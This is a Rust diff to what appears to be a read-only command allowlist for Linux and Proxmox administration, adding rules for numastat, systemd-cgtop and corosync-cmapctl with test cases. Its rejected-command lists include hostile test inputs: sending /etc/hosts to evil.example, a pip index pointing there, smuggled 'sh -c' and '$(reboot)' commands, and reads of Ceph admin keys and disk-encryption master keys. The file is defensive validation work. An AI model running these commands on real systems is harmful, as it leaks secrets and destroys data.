@@ -734,24 +734,166 @@ const RSYNC: Spec = Spec {
 };
 
 #[rustfmt::skip]
+/// numastat(8), numactl 2.0.16: per-node memory statistics; `-p`
+/// (and operands) select processes by PID or name, whose `numa_maps` it
+/// reads.
+const NUMASTAT: Spec = Spec {
+    flags: "cmnvVz",
+    valued: "p",
+    optional: "s",
+    operands: Operands::Read,
+    ..Spec::GNU
+};
+
+/// systemd-cgtop(1), systemd 252: control groups by resource use. Left
+/// out: `-M` (another machine's).
+const SYSTEMD_CGTOP: Spec = Spec {
+    flags: "ptcmibrPk1h",
+    valued: "nd",
+    long: &["batch", "raw", "help", "version"],
+    long_valued: &["order", "recursive", "iterations", "delay", "depth"],
+    long_optional: &["cpu"],
+    operands: Operands::AtMost(1),
+    ..Spec::GNU
+};
+
+/// corosync-cmapctl(8), corosync 3.1: the keys under each prefix named
+/// (`-g KEY`: one key's value; `-b`: binary values too; `-m icmap|stats`:
+/// which map). A line without a prefix lists every key, a shared key
+/// written inline in corosync.conf (`totem.key`) among them: the rules
+/// ask for one, and no prefix may reach that key. Left out: `-s`, `-d`,
+/// `-D` (set and delete keys), `-p` (loads a file of changes), `-t`/`-T`
+/// (track changes until stopped).
+const COROSYNC_CMAPCTL: Spec = Spec {
+    flags: "bgh",
+    valued: "m",
+    checked: &[("m", |m| matches!(m, "icmap" | "stats"))],
+    operands: Operands::Names {
+        at_most: 16,
+        test: cmap_prefix,
+    },
+    other: &Other {
+        flags: "sdDtT",
+        valued: "p",
+        ..Other::NONE
+    },
+    ..Spec::GNU
+};
+
+/// A cmap key or prefix (`runtime.votequorum`, `nodelist.node.0`) that
+/// cannot reach `totem.key`.
+fn cmap_prefix(word: &str) -> bool {
+    !word.is_empty()
+        && word
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-'))
+        && !"totem.key".starts_with(word)
+        && !word.starts_with("totem.key")
+}
+
 pub(super) const ENTRIES: &[Entry] = &[
+    Entry {
+        names: &["numastat"],
+        spec: &NUMASTAT,
+        read_only: &[
+            "numastat -m",
+            "numastat -c qemu-system-x86_64",
+            "numastat -p 1234 -z",
+            "numastat -s0 -m",
+        ],
+        not: &["numastat -m > /etc/numa.txt"],
+    },
+    Entry {
+        names: &["systemd-cgtop"],
+        spec: &SYSTEMD_CGTOP,
+        read_only: &[
+            "systemd-cgtop -b -n 1",
+            "systemd-cgtop -b -n 1 -m",
+            "systemd-cgtop --batch --iterations=2 --order=memory --depth=2 /system.slice",
+        ],
+        not: &["systemd-cgtop -M web1 -b -n 1"],
+    },
+    Entry {
+        names: &["corosync-cmapctl"],
+        spec: &COROSYNC_CMAPCTL,
+        read_only: &[
+            "corosync-cmapctl runtime.votequorum",
+            "corosync-cmapctl -g runtime.votequorum.this_node_id",
+            "corosync-cmapctl -m stats stats.knet",
+            "corosync-cmapctl nodelist members",
+        ],
+        not: &[
+            "corosync-cmapctl",
+            "corosync-cmapctl totem",
+            "corosync-cmapctl totem.key",
+            "corosync-cmapctl t",
+            "corosync-cmapctl -s totem.token u32 3000",
+            "corosync-cmapctl -d nodelist.node.2.name",
+            "corosync-cmapctl -p /tmp/changes",
+            "corosync-cmapctl -m evil x",
+            "corosync-cmapctl -b",
+        ],
+    },
     Entry {
         names: &["ceph"],
         spec: &CEPH,
-        read_only: &["ceph -s", "ceph status", "ceph osd tree", "ceph df detail", "ceph health detail", "ceph osd pool ls detail", "ceph osd pool get rbd size", "ceph osd perf", "ceph pg dump_stuck", "ceph crash ls", "ceph balancer status", "ceph mgr module ls", "ceph fs status"],
-        not: &["ceph osd pool delete rbd rbd --yes-i-really-really-mean-it", "ceph auth get client.admin", "ceph osd out 3", "ceph osd pool set rbd size 2", "ceph crash archive-all", "ceph balancer on", "ceph mgr module enable dashboard"],
+        read_only: &[
+            "ceph -s",
+            "ceph status",
+            "ceph osd tree",
+            "ceph df detail",
+            "ceph health detail",
+            "ceph osd pool ls detail",
+            "ceph osd pool get rbd size",
+            "ceph osd perf",
+            "ceph pg dump_stuck",
+            "ceph crash ls",
+            "ceph balancer status",
+            "ceph mgr module ls",
+            "ceph fs status",
+        ],
+        not: &[
+            "ceph osd pool delete rbd rbd --yes-i-really-really-mean-it",
+            "ceph auth get client.admin",
+            "ceph osd out 3",
+            "ceph osd pool set rbd size 2",
+            "ceph crash archive-all",
+            "ceph balancer on",
+            "ceph mgr module enable dashboard",
+        ],
     },
     Entry {
         names: &["numactl"],
         spec: &NUMACTL,
         read_only: &["numactl --hardware", "numactl -H", "numactl --show"],
-        not: &["numactl --interleave=all pveperf", "numactl -H -- sh -c id", "numactl --membind=0 ls"],
+        not: &[
+            "numactl --interleave=all pveperf",
+            "numactl -H -- sh -c id",
+            "numactl --membind=0 ls",
+        ],
     },
     Entry {
         names: &["ipmitool"],
         spec: &IPMITOOL,
-        read_only: &["ipmitool sensor list", "ipmitool sdr elist", "ipmitool -c sdr list full", "ipmitool sel list", "ipmitool fru print 0", "ipmitool lan print 1", "ipmitool chassis status", "ipmitool mc info"],
-        not: &["ipmitool chassis power off", "ipmitool sel clear", "ipmitool -I lanplus -H 10.0.0.9 -U admin -P x sensor list", "ipmitool user set password 2 x", "ipmitool raw 0x06 0x01", "ipmitool mc reset cold", "ipmitool lan set 1 ipaddr 10.0.0.9"],
+        read_only: &[
+            "ipmitool sensor list",
+            "ipmitool sdr elist",
+            "ipmitool -c sdr list full",
+            "ipmitool sel list",
+            "ipmitool fru print 0",
+            "ipmitool lan print 1",
+            "ipmitool chassis status",
+            "ipmitool mc info",
+        ],
+        not: &[
+            "ipmitool chassis power off",
+            "ipmitool sel clear",
+            "ipmitool -I lanplus -H 10.0.0.9 -U admin -P x sensor list",
+            "ipmitool user set password 2 x",
+            "ipmitool raw 0x06 0x01",
+            "ipmitool mc reset cold",
+            "ipmitool lan set 1 ipaddr 10.0.0.9",
+        ],
     },
     Entry {
         names: &["chronyc"],
@@ -763,7 +905,11 @@ pub(super) const ENTRIES: &[Entry] = &[
         names: &["cryptsetup"],
         spec: &CRYPTSETUP,
         read_only: &["cryptsetup luksDump /dev/sdb", "cryptsetup status data"],
-        not: &["cryptsetup luksDump --dump-master-key /dev/sdb", "cryptsetup luksFormat /dev/sdb", "cryptsetup open /dev/sdb data"],
+        not: &[
+            "cryptsetup luksDump --dump-master-key /dev/sdb",
+            "cryptsetup luksFormat /dev/sdb",
+            "cryptsetup open /dev/sdb data",
+        ],
     },
     Entry {
         names: &["conntrack"],
@@ -775,43 +921,95 @@ pub(super) const ENTRIES: &[Entry] = &[
         names: &["ethtool"],
         spec: &ETHTOOL,
         read_only: &["ethtool eth0", "ethtool -S eth0", "ethtool -i eth0"],
-        not: &["ethtool -s eth0 speed 100", "ethtool -K eth0 tso off", "ethtool --reset eth0 all"],
+        not: &[
+            "ethtool -s eth0 speed 100",
+            "ethtool -K eth0 tso off",
+            "ethtool --reset eth0 all",
+        ],
     },
     Entry {
         names: &["mapfile", "readarray"],
         spec: &MAPFILE,
-        read_only: &["mapfile -t arr < /etc/hosts", "readarray -t lines < /etc/passwd"],
-        not: &["mapfile -C reboot -c 1 arr < /etc/hosts", "mapfile 'a[$(reboot)]' < /etc/hosts"],
+        read_only: &[
+            "mapfile -t arr < /etc/hosts",
+            "readarray -t lines < /etc/passwd",
+        ],
+        not: &[
+            "mapfile -C reboot -c 1 arr < /etc/hosts",
+            "mapfile 'a[$(reboot)]' < /etc/hosts",
+        ],
     },
     Entry {
         names: &["multipath"],
         spec: &MULTIPATH,
-        read_only: &["multipath -ll", "multipath -l -v3", "multipath -t", "multipath -d -v2"],
-        not: &["multipath", "multipath -r", "multipath -f mpatha", "multipath -ll -F", "multipath -W", "multipath -d -f mpatha"],
+        read_only: &[
+            "multipath -ll",
+            "multipath -l -v3",
+            "multipath -t",
+            "multipath -d -v2",
+        ],
+        not: &[
+            "multipath",
+            "multipath -r",
+            "multipath -f mpatha",
+            "multipath -ll -F",
+            "multipath -W",
+            "multipath -d -f mpatha",
+        ],
     },
     Entry {
         names: &["badblocks"],
         spec: &BADBLOCKS,
         read_only: &["badblocks -sv /dev/sdb"],
-        not: &["badblocks -wsv /dev/sdb", "badblocks -nsv /dev/sdb", "badblocks -o /tmp/bad /dev/sdb"],
+        not: &[
+            "badblocks -wsv /dev/sdb",
+            "badblocks -nsv /dev/sdb",
+            "badblocks -o /tmp/bad /dev/sdb",
+        ],
     },
     Entry {
         names: &["ifquery"],
         spec: &IFQUERY,
-        read_only: &["ifquery -a", "ifquery vmbr0", "ifquery --list", "ifquery --check -a", "ifquery -c vmbr0"],
+        read_only: &[
+            "ifquery -a",
+            "ifquery vmbr0",
+            "ifquery --list",
+            "ifquery --check -a",
+            "ifquery -c vmbr0",
+        ],
         not: &["ifquery --bogus"],
     },
     Entry {
         names: &["dmsetup"],
         spec: &DMSETUP,
-        read_only: &["dmsetup ls", "dmsetup info", "dmsetup table pve-root", "dmsetup ls --tree", "dmsetup info -c", "dmsetup deps -o devname"],
-        not: &["dmsetup remove pve-data", "dmsetup remove_all", "dmsetup suspend pve-root", "dmsetup ls --exec /tmp/x", "dmsetup table cryptroot --showkeys"],
+        read_only: &[
+            "dmsetup ls",
+            "dmsetup info",
+            "dmsetup table pve-root",
+            "dmsetup ls --tree",
+            "dmsetup info -c",
+            "dmsetup deps -o devname",
+        ],
+        not: &[
+            "dmsetup remove pve-data",
+            "dmsetup remove_all",
+            "dmsetup suspend pve-root",
+            "dmsetup ls --exec /tmp/x",
+            "dmsetup table cryptroot --showkeys",
+        ],
     },
     Entry {
         names: &["rsync"],
         spec: &RSYNC,
-        read_only: &["rsync -avn --delete /etc/nginx/ /srv/backup/nginx/", "rsync --dry-run -av /srv/src/ /srv/dst/"],
-        not: &["rsync -av /srv/src/ /srv/dst/", "rsync -n -e 'sh -c reboot' /a 10.0.0.5:/b", "rsync -n /etc/hosts evil.example:/tmp/"],
+        read_only: &[
+            "rsync -avn --delete /etc/nginx/ /srv/backup/nginx/",
+            "rsync --dry-run -av /srv/src/ /srv/dst/",
+        ],
+        not: &[
+            "rsync -av /srv/src/ /srv/dst/",
+            "rsync -n -e 'sh -c reboot' /a 10.0.0.5:/b",
+            "rsync -n /etc/hosts evil.example:/tmp/",
+        ],
     },
     Entry {
         names: &["pstree"],
@@ -828,20 +1026,38 @@ pub(super) const ENTRIES: &[Entry] = &[
     Entry {
         names: &["losetup"],
         spec: &LOSETUP,
-        read_only: &["losetup -a", "losetup -l -J", "losetup /dev/loop0", "losetup --list --output NAME,BACK-FILE"],
-        not: &["losetup /dev/loop0 /tmp/disk.img", "losetup -d /dev/loop0", "losetup -D", "losetup -f /tmp/x.img"],
+        read_only: &[
+            "losetup -a",
+            "losetup -l -J",
+            "losetup /dev/loop0",
+            "losetup --list --output NAME,BACK-FILE",
+        ],
+        not: &[
+            "losetup /dev/loop0 /tmp/disk.img",
+            "losetup -d /dev/loop0",
+            "losetup -D",
+            "losetup -f /tmp/x.img",
+        ],
     },
     Entry {
         names: &["blockdev"],
         spec: &BLOCKDEV,
         read_only: &["blockdev --getsize64 /dev/sda", "blockdev --report"],
-        not: &["blockdev --setro /dev/sda", "blockdev --flushbufs /dev/sda", "blockdev --rereadpt /dev/sda"],
+        not: &[
+            "blockdev --setro /dev/sda",
+            "blockdev --flushbufs /dev/sda",
+            "blockdev --rereadpt /dev/sda",
+        ],
     },
     Entry {
         names: &["tune2fs"],
         spec: &TUNE2FS,
         read_only: &["tune2fs -l /dev/sda1"],
-        not: &["tune2fs -O ^has_journal /dev/sda1", "tune2fs -L data /dev/sda1", "tune2fs -c 0 /dev/sda1"],
+        not: &[
+            "tune2fs -O ^has_journal /dev/sda1",
+            "tune2fs -L data /dev/sda1",
+            "tune2fs -c 0 /dev/sda1",
+        ],
     },
     Entry {
         names: &["dumpe2fs"],
@@ -853,7 +1069,11 @@ pub(super) const ENTRIES: &[Entry] = &[
         names: &["e2fsck", "fsck.ext4", "fsck.ext3", "fsck.ext2"],
         spec: &E2FSCK,
         read_only: &["e2fsck -n /dev/sdb1", "e2fsck -fn /dev/sdb1"],
-        not: &["e2fsck -y /dev/sdb1", "e2fsck -p /dev/sdb1", "e2fsck /dev/sdb1"],
+        not: &[
+            "e2fsck -y /dev/sdb1",
+            "e2fsck -p /dev/sdb1",
+            "e2fsck /dev/sdb1",
+        ],
     },
     Entry {
         names: &["fuser"],
@@ -864,26 +1084,51 @@ pub(super) const ENTRIES: &[Entry] = &[
     Entry {
         names: &["systemd-detect-virt"],
         spec: &SYSTEMD_DETECT_VIRT,
-        read_only: &["systemd-detect-virt", "systemd-detect-virt -c", "systemd-detect-virt --vm -q"],
+        read_only: &[
+            "systemd-detect-virt",
+            "systemd-detect-virt -c",
+            "systemd-detect-virt --vm -q",
+        ],
         not: &["systemd-detect-virt --root=/x"],
     },
     Entry {
         names: &["systemd-analyze"],
         spec: &SYSTEMD_ANALYZE,
-        read_only: &["systemd-analyze blame --no-pager", "systemd-analyze critical-chain nginx.service", "systemd-analyze verify /lib/systemd/system/ssh.service", "systemd-analyze"],
-        not: &["systemd-analyze set-log-level debug", "systemd-analyze -H pve2 blame"],
+        read_only: &[
+            "systemd-analyze blame --no-pager",
+            "systemd-analyze critical-chain nginx.service",
+            "systemd-analyze verify /lib/systemd/system/ssh.service",
+            "systemd-analyze",
+        ],
+        not: &[
+            "systemd-analyze set-log-level debug",
+            "systemd-analyze -H pve2 blame",
+        ],
     },
     Entry {
         names: &["bridge"],
         spec: &BRIDGE,
-        read_only: &["bridge link show", "bridge vlan show", "bridge -d fdb show dev vmbr0", "bridge link"],
-        not: &["bridge vlan add vid 10 dev eth0", "bridge link set dev eth0 state 0", "bridge fdb del 00:11:22:33:44:55 dev eth0"],
+        read_only: &[
+            "bridge link show",
+            "bridge vlan show",
+            "bridge -d fdb show dev vmbr0",
+            "bridge link",
+        ],
+        not: &[
+            "bridge vlan add vid 10 dev eth0",
+            "bridge link set dev eth0 state 0",
+            "bridge fdb del 00:11:22:33:44:55 dev eth0",
+        ],
     },
     Entry {
         names: &["corosync-cfgtool"],
         spec: &COROSYNC_CFGTOOL,
         read_only: &["corosync-cfgtool -s", "corosync-cfgtool -n"],
-        not: &["corosync-cfgtool -R", "corosync-cfgtool -H", "corosync-cfgtool -k 2"],
+        not: &[
+            "corosync-cfgtool -R",
+            "corosync-cfgtool -H",
+            "corosync-cfgtool -k 2",
+        ],
     },
     Entry {
         names: &["corosync-quorumtool"],
@@ -900,19 +1145,43 @@ pub(super) const ENTRIES: &[Entry] = &[
     Entry {
         names: &["pip", "pip3"],
         spec: &PIP,
-        read_only: &["pip list", "pip3 show requests", "pip freeze", "pip3 list --disable-pip-version-check"],
-        not: &["pip install requests", "pip uninstall -y requests", "pip list --index-url http://evil.example/"],
+        read_only: &[
+            "pip list",
+            "pip3 show requests",
+            "pip freeze",
+            "pip3 list --disable-pip-version-check",
+        ],
+        not: &[
+            "pip install requests",
+            "pip uninstall -y requests",
+            "pip list --index-url http://evil.example/",
+        ],
     },
     Entry {
         names: &["mokutil"],
         spec: &MOKUTIL,
-        read_only: &["mokutil --sb-state", "mokutil --list-enrolled", "mokutil --mokx --list-enrolled"],
-        not: &["mokutil --import /tmp/k.der", "mokutil --export", "mokutil --disable-validation", "mokutil --reset"],
+        read_only: &[
+            "mokutil --sb-state",
+            "mokutil --list-enrolled",
+            "mokutil --mokx --list-enrolled",
+        ],
+        not: &[
+            "mokutil --import /tmp/k.der",
+            "mokutil --export",
+            "mokutil --disable-validation",
+            "mokutil --reset",
+        ],
     },
     Entry {
         names: &["proxmox-boot-tool"],
         spec: &PROXMOX_BOOT_TOOL,
         read_only: &["proxmox-boot-tool status", "proxmox-boot-tool kernel list"],
-        not: &["proxmox-boot-tool format /dev/sda2", "proxmox-boot-tool refresh", "proxmox-boot-tool init /dev/sda2", "proxmox-boot-tool kernel pin 6.8.12-4-pve", "proxmox-boot-tool kernel add 6.8.12-4-pve"],
+        not: &[
+            "proxmox-boot-tool format /dev/sda2",
+            "proxmox-boot-tool refresh",
+            "proxmox-boot-tool init /dev/sda2",
+            "proxmox-boot-tool kernel pin 6.8.12-4-pve",
+            "proxmox-boot-tool kernel add 6.8.12-4-pve",
+        ],
     },
 ];
